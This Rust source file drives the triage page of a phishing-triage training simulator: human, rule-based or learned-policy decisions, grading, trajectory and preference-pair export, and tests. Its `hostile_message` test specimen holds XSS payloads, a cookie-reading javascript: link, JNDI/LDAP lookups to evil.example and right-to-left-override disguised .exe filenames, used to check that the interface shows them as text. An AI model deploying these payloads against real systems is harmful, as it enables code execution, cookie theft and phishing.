//! The triage page's run of the simulator: the task, who decides, and the record of the
//! current episode; its exports (trajectory and preference pairs, through the core's code).
//! Plain Rust, tested natively; the components only read it.

use super::settings::{Decider, TriageSettings};
use crate::play::run::{Run, Scored};
use std::borrow::Cow;
use std::sync::Arc;
use ztgym::core::learn::adapter::Adapter;
use ztgym::core::pairs::{self, PairConfig};
use ztgym::core::policy::{Inspection, PolicyAgent};
use ztgym::core::Agent;
use ztgym::triage::agents::read_cues;
use ztgym::triage::learn::Policy;
use ztgym::triage::message::Message;
use ztgym::triage::{
    builtin_agent, Action, Channel, Class, Decision, Env, Grade, Observation, ResetOptions, Step,
    Triage, Visible,
};

/// The longest reasoning a person may send (the box's `maxlength` says the same).
pub const MAX_REASONING: usize = 2000;

/// The reasoning sent for a person who gave none (the environment needs one; it names no cue,
/// so it scores 0).
pub const NO_REASONING: &str = "No reasoning given.";

/// One triage run.
pub struct Session {
    settings: TriageSettings,
    run: Run<Env>,
    /// The tab's policy if it was trained on this task: the `Policy` decider plays it, and
    /// [`Session::inspect`] explains it whoever decides.
    policy: Option<Policy>,
}

/// A message of hostile text (`show=hostile`): markup, a JNDI lookup, right-to-left overrides
/// and a very long unbroken line, to check every surface shows it as text. A phishing attempt.
pub fn hostile_message() -> Message {
    let long = "A".repeat(3000);
    let visible = Visible {
        channel: Channel::Email,
        sender: "security@paypa1-support.com\u{202E}gpj.exe".to_string(),
        subject: Some("<script>alert('subject')</script> ${jndi:ldap://evil.example/a}".to_string()),
        text: format!(
            "<script>alert('xss')</script><img src=x onerror=alert(1)> ${{jndi:ldap://evil.example/x}} \
             Your account is locked: verify your password now. \u{202E}txt.exe\u{202C} {long}"
        ),
        links: vec![
            "javascript:alert(document.cookie)".to_string(),
            format!("http://bit.ly/{}", "x".repeat(500)),
        ],
        attachments: vec!["invoice\u{202E}fdp.exe".to_string(), "<b>bold</b>.zip".to_string()],
    };
    let cues = read_cues(&visible);
    Message {
        visible: Arc::new(visible),
        class: Class::Phishing,
        cues,
        hard_negative: false,
        source: Arc::from("hostile-specimen"),
    }
}

/// Shows the hostile specimen first (`show=hostile`), in the run and in the replay the pairs
/// are made on.
fn hostile_first(env: &mut Env, _first: Observation) -> Observation {
    env.show(hostile_message())
}

/// How an episode of `settings` starts after its reset.
fn prepare(settings: &TriageSettings) -> Option<crate::play::run::Prepare<Env>> {
    settings
        .hostile
        .then_some(hostile_first as crate::play::run::Prepare<Env>)
}

/// A finished triage episode scores its grade.
impl Scored for Env {
    const ID: &'static str = super::id::ENV;
    const GRADED: bool = true;

    fn score(&self, last: &Step) -> f64 {
        last.info
            .grade
            .as_ref()
            .map_or_else(|| self.grade().score, |g| g.score)
    }
}

impl Session {
    /// Starts a run without a policy. Fails for an agent the triage crate does not have, and
    /// for the `Policy` decider.
    pub fn new(settings: TriageSettings) -> Result<Session, String> {
        Session::with_policy(settings, None)
    }

    /// Starts a run with the tab's policy (set aside unless it was trained on this task).
    /// Fails for an agent the triage crate does not have, and for the `Policy` decider
    /// without a policy for the task.
    pub fn with_policy(
        settings: TriageSettings,
        policy: Option<&Policy>,
    ) -> Result<Session, String> {
        let task = settings.task;
        let policy = policy.filter(|p| p.scenario == task.as_str()).cloned();
        let agent: Option<Box<dyn Agent<Env>>> = match settings.agent {
            Decider::Human => None,
            Decider::Agent(name) => Some(builtin_agent(name)?),
            Decider::Policy => match &policy {
                Some(p) => Some(Box::new(PolicyAgent::new(p, &task)?)),
                None => {
                    return Err(format!(
                        "agent \"policy\": no policy for task {} is kept in this tab; train one \
                         in the Training panel or load a policy file in the Learned policy panel",
                        task.as_str()
                    ))
                }
            },
        };
        let run = Run::new(
            Env::new(settings.task),
            agent,
            settings.seed,
            ResetOptions::default(),
            prepare(&settings),
        );
        Ok(Session {
            settings,
            run,
            policy,
        })
    }

    pub fn settings(&self) -> &TriageSettings {
        &self.settings
    }

    /// The policy explained (and played by the `Policy` decider), if one fits the task.
    pub fn policy(&self) -> Option<&Policy> {
        self.policy.as_ref()
    }

    /// Makes `policy` the one [`Session::inspect`] explains (a person who keeps deciding while
    /// the tab's policy changes): ignored for another task, and while the `Policy` decider
    /// plays its own. Returns whether it was taken.
    pub fn explain(&mut self, policy: Option<&Policy>) -> bool {
        let policy = policy.filter(|p| p.scenario == self.settings.task.as_str());
        if self.settings.agent == Decider::Policy || policy.is_none() {
            return false;
        }
        self.policy = policy.cloned();
        true
    }

    /// What the policy would decide on the message on screen after `k` steps (`None`: now),
    /// and why: its features, each decision's value, the decision and reasoning it would send.
    pub fn inspect(&self, k: Option<usize>) -> Option<Inspection<Action>> {
        let policy = self.policy.as_ref()?;
        let agent = PolicyAgent::new(policy, &self.settings.task).ok()?;
        let observation = match k {
            Some(k) => self.observation_at(k),
            None => self.run.observation(),
        };
        Some(agent.inspect(observation))
    }

    /// A person's decision. A refused one (finished episode, confidence out of range, a
    /// reasoning too long) changes nothing and says why.
    pub fn decide(
        &mut self,
        decision: Decision,
        confidence: f64,
        reasoning: &str,
    ) -> Result<(), String> {
        if self.done() {
            return Err("The episode is over: press Reset or New seed for another.".into());
        }
        if reasoning.chars().count() > MAX_REASONING {
            return Err(format!(
                "reasoning: at most {MAX_REASONING} characters, found {}",
                reasoning.chars().count()
            ));
        }
        let reasoning = match reasoning.trim() {
            "" => Cow::Borrowed(NO_REASONING),
            given => Cow::Owned(given.to_string()),
        };
        let action = Action {
            decision,
            confidence,
            reasoning,
        };
        self.run.act(action)
    }

    /// The grade: the final one once the episode is over, else the grader's verdict so far.
    pub fn grade(&self) -> Grade {
        self.log()
            .steps
            .last()
            .and_then(|r| r.step.info.grade.clone())
            .unwrap_or_else(|| self.run.env().grade())
    }

    /// The episode's preference pairs (the core's counterfactual pairs), as JSONL: the episode
    /// is replayed from its seed with the decisions taken, and at each step every decision is
    /// tried on a clone of the environment.
    pub fn pairs_jsonl(&self) -> String {
        let task = self.settings.task;
        let mut env = Env::new(task);
        let mut adapter = Triage::new(&task);
        let (observation, _) = env.reset(self.settings.seed, ResetOptions::default());
        let mut observation = match prepare(&self.settings) {
            Some(prepare) => prepare(&mut env, observation),
            None => observation,
        };
        adapter.reset();
        let mut list = Vec::new();
        for (t, r) in self.log().steps.iter().enumerate() {
            adapter.observe(&observation);
            for mut p in pairs::pairs_at(
                &env,
                &adapter,
                &observation,
                PairConfig::default(),
                self.settings.seed,
                t as u32,
            ) {
                p.scenario = task.as_str().to_string();
                list.push(p);
            }
            match env.step(&r.action) {
                Ok(step) => observation = step.observation,
                Err(_) => break,
            }
        }
        pairs::to_jsonl(&list)
    }
}

crate::page_session!(Session, Env, TriageSettings);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::play::page_session::PageSession;
    use ztgym::triage::TaskId;

    fn settings(agent: Decider, task: TaskId) -> TriageSettings {
        TriageSettings {
            task,
            seed: 5,
            agent,
            ..TriageSettings::default()
        }
    }

    #[test]
    fn a_person_decides_and_trust_and_fatigue_move() {
        let mut s = Session::new(settings(Decider::Human, TaskId::L1)).unwrap();
        assert!(!s.automated());
        assert!(!s.agent_step(), "no agent plays for a person");
        let fatigue = s.observation().alert_fatigue;
        for _ in 0..5 {
            s.decide(Decision::Warn, 0.6, "Urgent tone and a link")
                .unwrap();
        }
        assert_eq!(s.log().steps.len(), 5);
        assert!(
            s.observation().alert_fatigue > fatigue,
            "warnings tire the user"
        );
        let err = s.decide(Decision::Allow, 1.5, "").unwrap_err();
        assert!(err.contains("confidence"), "{err}");
        assert_eq!(s.log().steps.len(), 5, "a refused decision changes nothing");
        let long = "x".repeat(MAX_REASONING + 1);
        assert!(s
            .decide(Decision::Allow, 0.5, &long)
            .unwrap_err()
            .contains("reasoning"));
    }

    #[test]
    fn a_finished_episode_has_its_final_grade_and_refuses_more() {
        let mut s = Session::new(settings(Decider::Human, TaskId::L1)).unwrap();
        while !s.done() {
            s.decide(Decision::Allow, 0.5, "").unwrap();
        }
        let g = s.grade();
        assert_eq!(
            Some(&g),
            s.log().steps.last().unwrap().step.info.grade.as_ref()
        );
        assert!(!g.passed, "always allowing fails L1: {g:?}");
        assert!(s
            .decide(Decision::Block, 0.5, "")
            .unwrap_err()
            .contains("over"));
        assert_eq!(s.stats().episodes, 1);
        s.restart();
        assert!(s.log().steps.is_empty() && !s.done());
    }

    #[test]
    fn agents_play_and_the_same_seed_gives_the_same_trajectory() {
        let mut a = Session::new(settings(Decider::Agent("rule-based"), TaskId::L3)).unwrap();
        let mut b = Session::new(settings(Decider::Agent("rule-based"), TaskId::L3)).unwrap();
        assert!(a.automated());
        let n = a.play(10_000, false);
        assert!(a.done() && n == a.log().steps.len());
        b.play(10_000, false);
        assert_eq!(a.trajectory_jsonl(), b.trajectory_jsonl());
        assert_eq!(a.trajectory_jsonl().lines().count(), n);
        assert!(a.info().adversary.is_some(), "L3 reports the adversary");
        // The same as the core's player on a fresh environment.
        let mut env = Env::new(TaskId::L3);
        let mut agent = builtin_agent("rule-based").unwrap();
        let native = ztgym::core::eval::trajectory_jsonl(
            &mut env,
            agent.as_mut(),
            5,
            &ResetOptions::default(),
        );
        assert_eq!(a.trajectory_jsonl(), native);
    }

    #[test]
    fn keep_going_moves_to_the_next_seed() {
        let mut s = Session::new(settings(Decider::Agent("always-block"), TaskId::L1)).unwrap();
        s.play(10_000, false);
        assert!(s.done() && !s.log().steps.is_empty());
        assert_eq!(s.play(3, true), 3);
        assert_eq!(s.settings().seed, 6);
        assert_eq!(s.log().steps.len(), 3);
        assert_eq!(s.stats().episodes, 1);
    }

    #[test]
    fn pairs_are_the_episodes_and_prefer_the_better_decision() {
        let mut s = Session::new(settings(Decider::Agent("random"), TaskId::L2)).unwrap();
        s.play(20, false);
        let jsonl = s.pairs_jsonl();
        let lines: Vec<serde_json::Value> = jsonl
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert!(lines.len() >= 20, "{}", lines.len());
        for p in &lines {
            assert_eq!(p["scenario"], "L2");
            assert_eq!(p["seed"], 5);
            assert!(p["step"].as_u64().unwrap() < 20);
            assert!(p["margin"].as_f64().unwrap() >= 0.05);
            assert!(p["prompt"].as_str().unwrap().starts_with("Task L2 step "));
            let _: Action = serde_json::from_str(p["chosen"].as_str().unwrap()).unwrap();
        }
        // Step t's prompt is the message decided at step t.
        let first = lines.iter().find(|p| p["step"] == 0).unwrap();
        assert!(first["prompt"]
            .as_str()
            .unwrap()
            .contains(&s.log().steps[0].observation.message.sender));
    }

    #[test]
    fn the_hostile_specimen_comes_first_and_replays() {
        let mut st = settings(Decider::Human, TaskId::L1);
        st.hostile = true;
        let mut s = Session::new(st).unwrap();
        let m = s.observation().message.clone();
        assert!(m.text.contains("<script>") && m.text.contains("${jndi:"));
        assert!(m.text.contains('\u{202E}') && m.text.len() > 3000);
        s.decide(Decision::Block, 0.9, "credential request, lookalike sender")
            .unwrap();
        assert_eq!(
            s.log().steps[0].step.info.last.as_ref().unwrap().class,
            Class::Phishing
        );
        assert!(
            s.pairs_jsonl().contains("jndi"),
            "the pairs replay the specimen"
        );
        s.restart();
        assert_eq!(s.observation().message, m);
    }

    fn trained_policy(task: TaskId) -> Policy {
        let mut config =
            ztgym::core::learn::TrainConfig::<TaskId>::new(ztgym::core::learn::Kind::QLagrangian);
        config.episodes = 300;
        let mut trainer = ztgym::core::learn::Trainer::<Triage>::new(task, config).unwrap();
        trainer.run(300);
        Policy::from_trainer(&trainer)
    }

    #[test]
    fn the_tabs_policy_decides_as_the_cli_plays_it_and_is_explained() {
        let policy = trained_policy(TaskId::L1);
        let mut s =
            Session::with_policy(settings(Decider::Policy, TaskId::L1), Some(&policy)).unwrap();
        assert!(s.automated());
        // Each step's decision is the one the inspection foretold.
        while !s.done() {
            let told = s.inspect(None).unwrap();
            assert!(s.agent_step());
            let r = s.log().steps.last().unwrap();
            assert_eq!(r.action, told.action);
            assert_eq!(told.actions[told.chosen], r.action.decision.as_str());
        }
        // `ztgym run --env triage --policy FILE --seed 5`.
        let mut env = Env::new(TaskId::L1);
        let mut agent = PolicyAgent::new(&policy, &TaskId::L1).unwrap();
        let cli =
            ztgym::core::eval::trajectory_jsonl(&mut env, &mut agent, 5, &ResetOptions::default());
        assert_eq!(s.trajectory_jsonl(), cli);
        // The inspection of an earlier step reads that step's message.
        let first = s.inspect(Some(0)).unwrap();
        assert_eq!(first.action, s.log().steps[0].action);
    }

    #[test]
    fn the_policy_decider_needs_a_policy_for_the_task_and_a_person_gets_it_explained() {
        let err = Session::new(settings(Decider::Policy, TaskId::L1))
            .err()
            .unwrap();
        assert!(
            err.contains("agent \"policy\"") && err.contains("L1"),
            "{err}"
        );
        let l2 = trained_policy(TaskId::L2);
        assert!(
            Session::with_policy(settings(Decider::Policy, TaskId::L1), Some(&l2)).is_err(),
            "a policy for another task does not play L1"
        );
        let mut human =
            Session::with_policy(settings(Decider::Human, TaskId::L1), Some(&l2)).unwrap();
        assert!(human.policy().is_none() && human.inspect(None).is_none());
        assert!(!human.explain(Some(&l2)));
        let l1 = trained_policy(TaskId::L1);
        assert!(human.explain(Some(&l1)));
        human.decide(Decision::Allow, 0.5, "").unwrap();
        assert!(human.inspect(Some(0)).is_some() && human.inspect(None).is_some());
        assert_eq!(human.observation_at(0), &human.log().steps[0].observation);
        assert_eq!(human.observation_at(1), human.observation());
    }
}
